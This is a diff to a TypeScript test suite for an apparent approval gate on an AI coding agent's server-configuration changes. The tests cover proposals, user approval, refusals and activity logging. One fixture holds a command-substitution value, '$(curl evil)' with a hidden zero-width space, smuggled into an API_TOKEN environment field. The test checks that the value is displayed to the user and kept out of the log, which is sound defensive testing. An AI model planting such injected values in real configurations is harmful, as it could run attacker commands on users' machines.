@@ -67,8 +67,10 @@ const rpc = <M extends 'proposals' | 'approve' | 'reject'>(
 const proposals = async (core: TestCore): Promise<ProposalSummary[]> =>
   (await rpc(core, 'proposals'))['proposals'] as ProposalSummary[];
 
-const recorded = (core: TestCore): (string | undefined)[] =>
-  core.host.core.activity.log.recent({ server: 'tooltray' }).map(({ app, tool, why }) => `${app} ${tool}: ${why}`);
+const recorded = async (core: TestCore): Promise<string[]> =>
+  (await core.host.core.activity.log.ask('recentCalls', { server: 'tooltray' })).map(
+    ({ app, tool, why }) => `${app} ${tool}: ${why}`,
+  );
 
 const tool = (core: { client: SocketClient }, name: string, input: Json): Promise<Json> =>
   core.client.callTool(name, input);
@@ -87,7 +89,7 @@ test('reading and retrying need no approval; every change is only proposed, and 
       await tool(core, name, input);
       const [waiting] = await proposals(core);
       expect([use, waiting?.sentence]).toEqual([use, proposed]);
-      const [record = ''] = recorded(core);
+      const [record = ''] = await recorded(core);
       const said = proposed === undefined ? 'Looked' : `Proposed as ${waiting?.id}: ${waiting?.sentence}`;
       expect([use, record]).toEqual([use, expect.stringContaining(`codex ${name}: ${said}`)]);
       if (waiting !== undefined) await rpc(core, 'reject', { id: waiting.id });
@@ -103,7 +105,7 @@ test('shows the user the policy where it is set, and records their decision', as
   const [asked] = await proposals(core);
   await rpc(core, 'approve', { id: asked?.id });
   expect(core.server('a').state.kind).toBe('disabled');
-  expect(recorded(core)).toEqual([
+  expect(await recorded(core)).toEqual([
     `You approve: Approved ${asked?.id}: Switch "a" off. Asked by codex with upstream_servers.`,
     `codex upstream_servers: Proposed as ${asked?.id}: Switch "a" off.`,
   ]);
@@ -115,11 +117,11 @@ test('with the policy "allow", changes take effect at once and are recorded, as 
   await tool(core, 'upstream_servers', { operation: 'patch', name: 'a', enabled: false });
   expect(core.server('a').state.kind).toBe('disabled');
   await tool(core, 'upstream_servers', { operation: 'patch', name: 'a', init_timeout: '10ms' });
-  expect(recorded(core)).toEqual([
+  expect(await recorded(core)).toEqual([
     'codex upstream_servers: Refused: Change initTimeoutSeconds of "a".',
     'codex upstream_servers: Done: Switch "a" off.',
   ]);
-  const [refused] = core.host.core.activity.log.recent({ server: 'tooltray' });
+  const [refused] = await core.host.core.activity.log.ask('recentCalls', { server: 'tooltray' });
   expect(refused).toMatchObject({ outcome: 'blocked', errorCode: 'bad_request' });
 });
 
@@ -196,7 +198,7 @@ test('shows the user each change verbatim, line by line, with marks for invisibl
     text: 'Description: "Mine"',
   });
   expect(change?.entry).toMatchObject({ description: 'Mine', env: { API_TOKEN: '$(curl evil)⟨U+200B⟩' } });
-  expect(JSON.stringify(core.host.core.activity.log.recent())).not.toContain('curl evil');
+  expect(JSON.stringify(await core.host.core.activity.log.ask('recentCalls'))).not.toContain('curl evil');
 });
 
 test("shows a model's descriptions to nobody until the user has approved them", async () => {
